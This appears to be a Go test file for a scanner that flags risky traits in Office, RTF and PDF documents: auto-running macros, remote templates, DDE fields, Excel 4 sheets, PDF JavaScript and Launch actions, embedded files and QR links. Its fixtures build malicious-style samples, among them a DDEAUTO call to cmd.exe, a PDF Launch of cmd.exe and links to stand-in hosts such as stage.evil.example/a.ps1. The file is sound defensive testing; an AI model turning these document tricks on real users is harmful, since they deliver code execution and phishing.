package artefact

import (
	"image"
	"image/color"
	"slices"
	"strings"
	"testing"
	"time"
)

// codes returns the codes of the signs of a report.
func codes(r *Report) (out []string) {
	for _, s := range r.Signs {
		if !slices.Contains(out, s.Code) {
			out = append(out, s.Code)
		}
	}
	return out
}

// hasLink reports whether a report has a link.
func hasLink(r *Report, url string) bool {
	return slices.ContainsFunc(r.Links, func(l Link) bool { return l.URL == url })
}

// Macros are found in new and old documents, with what runs by itself.
func TestInspect_findsMacros(t *testing.T) {
	t.Parallel()
	const types = "[Content_Types].xml"
	for name, content := range map[string][]byte{
		"a.docm": zipped(t, types, "<Types/>", "word/vbaProject.bin", string(vbaFile()), "word/document.xml", "<w:document/>"),
		"a.doc":  compoundOf("WordDocument", "text", "Macros/x", "y", "VBA/_VBA_PROJECT", "\xcc\x61", "VBA/ThisDocument", "code"+packVBA(macroSource)),
	} {
		r := Inspect(name, content, Options{})
		checkReport(t, name, &r)
		if r.Kind != KindOffice || r.Macros != MacrosYes || !r.Has(SignAutoexec) || !r.Has(SignSuspect) || !hasLink(&r, "https://stage.evil.example/a.ps1") {
			t.Errorf("%s: kind %s, macros %s, signs %v, links %v, warnings %v", name, r.Kind, r.Macros, r.Signs, r.Links, r.Warnings)
		}
	}
	plain := Inspect("a.docx", zipped(t, types, "<Types/>", "word/document.xml", "<w:document/>"), Options{})
	if plain.Kind != KindOffice || plain.Macros != MacrosNo || len(plain.Signs) != 0 {
		t.Errorf("a plain document: %+v", plain)
	}
	broken := Inspect("a.doc", compoundOf("WordDocument", "text")[:600], Options{})
	if broken.Macros != MacrosUnknown {
		t.Errorf("a broken document has macros: %s", broken.Macros)
	}
	locked := Inspect("a.xlsx", compoundOf("EncryptionInfo", "x", "EncryptedPackage", "y"), Options{})
	if locked.Macros != MacrosUnknown || !locked.Encrypted {
		t.Errorf("an encrypted document: %+v", locked)
	}
}

// Templates and objects that are loaded from elsewhere, DDE and sheets of Excel 4 are found.
func TestInspect_findsWhatDocumentsLoad(t *testing.T) {
	t.Parallel()
	const rels = `<?xml version="1.0"?><Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="http://tpl.evil.example/a.dotm" TargetMode="External"/>` +
		`<Relationship Id="2" Type="http://x/relationships/hyperlink" Target="https://page.example/?a=1&amp;b=2" TargetMode="External"/></Relationships>`
	r := Inspect("a.docx", zipped(t, "[Content_Types].xml", "<Types/>", "word/_rels/settings.xml.rels", rels,
		"word/document.xml", `<w:p><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:p>`), Options{})
	if got := codes(&r); !slices.Contains(got, SignExternal) || !slices.Contains(got, SignDDE) || !hasLink(&r, "http://tpl.evil.example/a.dotm") || !hasLink(&r, "https://page.example/?a=1&b=2") {
		t.Errorf("signs %v, links %v", r.Signs, r.Links)
	}
	x := Inspect("a.xlsm", zipped(t, "[Content_Types].xml", "<Types/>", "xl/macrosheets/sheet1.xml", `<xm:macrosheet>=EXEC("calc")</xm:macrosheet>`), Options{})
	if x.Macros != MacrosYes || !x.Has(SignExcel4) {
		t.Errorf("a macro sheet: %s %v", x.Macros, x.Signs)
	}
	rtf := Inspect("a.rtf", []byte(`{\rtf1{\*\template http://t.evil.example/x.dot}{\field{\*\fldinst {HYPERLINK "https://h.evil.example/"}}}`+
		`{\object\objemb{\*\objclass Package}{\*\objdata 0105 0000{\*\x} d0cf11e0a1b11ae1}}}`), Options{})
	if got := codes(&rtf); !slices.Contains(got, SignExternal) || !slices.Contains(got, SignObject) || !hasLink(&rtf, "https://h.evil.example/") || !hasLink(&rtf, "http://t.evil.example/x.dot") {
		t.Errorf("rtf: signs %v, links %v", rtf.Signs, rtf.Links)
	}
}

// What a PDF does and holds is found, in packed objects and behind escaped names too.
func TestInspect_readsPDFs(t *testing.T) {
	t.Parallel()
	packed := "7 0 8 50 << /S /URI /URI (https://hidden.evil.example/a) >><< /S /Launch /F (cmd.exe) >>"
	g := qrImage(t, "https://qr.evil.example/pay", 120)
	r := Inspect("a.pdf", pdfOf(
		"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</EmbeddedFiles<</Names[(x)5 0 R]>>>>>>",
		"<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<</XObject<</I 10 0 R>>>>/Annots[<</A<</S/URI/URI(https://plain.example/\\(x\\))>>>>]>>",
		"<</S/J#61vaScript/JS(app.launchURL\\('https://js.evil.example/'\\))>>",
		"<</Type/Filespec/F(drop.js)/EF<</F 6 0 R>>>>",
		streamOf("/Type/EmbeddedFile/Filter/FlateDecode", deflated(t, []byte("alert(1)"))),
		"null", "null",
		streamOf("/Type/ObjStm/N 2/First 9/Filter/FlateDecode", deflated(t, []byte(packed))),
		streamOf("/Subtype/Image/Width 120/Height 120/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode", deflated(t, g.Pix)),
	), Options{Pages: -1})
	checkReport(t, "a.pdf", &r)
	for _, want := range []string{SignPDFScript, SignPDFOpen, SignPDFLaunch, SignEmbedded} {
		if !slices.Contains(codes(&r), want) {
			t.Errorf("no sign %s in %v", want, r.Signs)
		}
	}
	for _, want := range []string{"https://plain.example/(x)", "https://js.evil.example/", "https://hidden.evil.example/a"} {
		if !hasLink(&r, want) {
			t.Errorf("no link %s in %v", want, r.Links)
		}
	}
	if got := member(t, &r, "drop.js"); got.Kind != KindScript {
		t.Errorf("the embedded file is %+v", got)
	}
	if want := (Code{"https://qr.evil.example/pay", "qr page 1"}); len(r.Codes) != 1 || r.Codes[0] != want {
		t.Errorf("codes %v, want %v", r.Codes, want)
	}
}

// A code that a PDF draws square by square is found on the drawn page.
func TestInspect_readsCodesOfDrawnPages(t *testing.T) {
	t.Parallel()
	if drawer() == "" {
		t.Skip("pdftoppm is not on this machine (Debian: poppler-utils)")
	}
	g := qrImage(t, "https://drawn.evil.example/", 1)
	var page strings.Builder
	side := g.Rect.Dx()
	for i, c := range g.Pix {
		if c == 0 {
			page.WriteString(strings.Join([]string{num(100 + i%side*8), num(700 - i/side*8), "8 8 re f\n"}, " "))
		}
	}
	r := Inspect("a.pdf", pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>", streamOf("", page.String())), Options{})
	if want := (Code{"https://drawn.evil.example/", "qr page 1"}); len(r.Codes) != 1 || r.Codes[0] != want {
		t.Errorf("codes %v, warnings %v", r.Codes, r.Warnings)
	}
}

func num(n int) string {
	return string([]byte{byte('0' + n/100), byte('0' + n/10%10), byte('0' + n%10)})
}

// QR codes are read however they are turned, coloured and scaled, several in one image.
func TestCodes_readsQRCodes(t *testing.T) {
	t.Parallel()
	const text = "WIFI:T:WPA;S=guest;;"
	plain := qrImage(t, text, 120)
	paint := func(w, h int, at func(x, y int) uint8) *image.Gray {
		g := image.NewGray(image.Rect(0, 0, w, h))
		for y := range h {
			for x := range w {
				g.SetGray(x, y, color.Gray{Y: at(x, y)})
			}
		}
		return g
	}
	pixel := func(x, y int) uint8 {
		if x < 0 || y < 0 || x >= 120 || y >= 120 {
			return 255
		}
		return plain.GrayAt(x, y).Y
	}
	for name, img := range map[string]image.Image{
		"plain":            plain,
		"inverted":         paint(120, 120, func(x, y int) uint8 { return 255 - pixel(x, y) }),
		"turned by 90":     paint(120, 120, func(x, y int) uint8 { return pixel(y, 119-x) }),
		"mirrored":         paint(120, 120, func(x, y int) uint8 { return pixel(119-x, y) }),
		"slanted":          paint(300, 300, func(x, y int) uint8 { return pixel((x*9+y*4)/20-40, (y*9-x*4)/20+20) }),
		"one pixel each":   qrImage(t, text, 1),
		"on a large page":  paint(2480, 3508, func(x, y int) uint8 { return pixel((x-1500)/3, (y-2500)/3) }),
		"pale":             paint(120, 120, func(x, y int) uint8 { return 150 + pixel(x, y)/4 }),
		"with transparent": transparent(plain),
	} {
		if got := New(Options{Time: time.Minute}).Codes(pngOf(t, img), "x"); len(got) != 1 || got[0].Payload != text {
			t.Errorf("%s: %v", name, got)
		}
	}
	other := qrImage(t, "https://b.example/", 120)
	two := paint(300, 120, func(x, y int) uint8 {
		if x >= 150 && x < 270 {
			return other.GrayAt(x-150, y).Y
		}
		return pixel(x, y)
	})
	if got := New(Options{}).Codes(pngOf(t, two), "x"); len(got) != 2 {
		t.Errorf("two codes: %v", got)
	}
}

// transparent makes the white of an image transparent black.
func transparent(g *image.Gray) image.Image {
	out := image.NewNRGBA(g.Rect)
	for y := range g.Rect.Dy() {
		for x := range g.Rect.Dx() {
			if g.GrayAt(x, y).Y == 0 {
				out.SetNRGBA(x, y, color.NRGBA{A: 255})
			}
		}
	}
	return out
}
